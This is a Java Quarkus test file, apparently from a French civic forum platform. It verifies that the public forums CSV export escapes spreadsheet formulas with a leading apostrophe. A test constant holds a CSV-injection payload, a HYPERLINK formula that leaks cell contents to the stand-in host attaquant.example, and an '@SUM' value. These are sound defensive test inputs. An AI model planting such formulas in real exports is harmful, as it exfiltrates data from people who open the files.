package fr.parlonsen.forum;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Set;

import jakarta.inject.Inject;
import jakarta.transaction.Transactional;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import fr.parlonsen.Fixtures;
import fr.parlonsen.ForumFixtures;
import io.quarkus.test.junit.QuarkusTest;

/** A forum titled like a spreadsheet formula reaches citizens' spreadsheets as text, never as a formula. */
@QuarkusTest
class ForumTitleFormulaInCsvTest {
    @Inject
    Fixtures fixtures;
    @Inject
    ForumFixtures forums;
    @Inject
    fr.parlonsen.cluster.Generations generations;

    static final String FORMULA = "=HYPERLINK(\"http://attaquant.example/?\"&A1,\"Cliquez\")";

    @BeforeEach
    void setUp() {
        fixtures.ensure();
    }

    @Transactional
    void retitle(long id, String title, String venue) {
        Forum f = Forum.findById(id);
        f.title = title;
        f.venueName = venue;
    }

    @Test
    void formula_cells_of_the_public_csv_start_with_an_apostrophe() {
        long id = forums.heldForum("02", Set.of("animateur-02"), Set.of("024"), ForumStatus.PUBLISHED);
        retitle(id, FORMULA, "@SUM(1+1)");
        // a change made behind the services' back: say so, as they do (every replica's public pages follow)
        io.quarkus.narayana.jta.QuarkusTransaction.requiringNew().run(() -> generations.bump(ForumService.PUBLIC_TOPIC));
        String csv = given().get("/api/v1/public/campaigns/2009/forums.csv?department=02").then().statusCode(200)
                .extract().asString();
        String line = csv.lines().filter(l -> l.startsWith(id + ",")).findFirst().orElseThrow();
        assertTrue(line.contains(",\"'=HYPERLINK(\"\"http://attaquant.example/?\"\"&A1,\"\"Cliquez\"\")\","), line);
        assertTrue(line.contains(",'@SUM(1+1),"), line);
        assertFalse(line.contains(",=") || line.contains(",@") || line.contains(",\"="), line);
    }

    @Test
    void every_csv_writer_is_the_one_writer() {
        assertTrue(fr.parlonsen.export.CsvWriter.cell("+33 1 00", ',').startsWith("'+"));
        assertTrue(fr.parlonsen.export.CsvWriter.cell("-2", ';').startsWith("'-"));
        assertTrue(fr.parlonsen.export.CsvWriter.cell("\tx", ';').startsWith("'"));
        assertTrue(fr.parlonsen.export.CsvWriter.cell("a,b", ',').equals("\"a,b\""));
    }
}
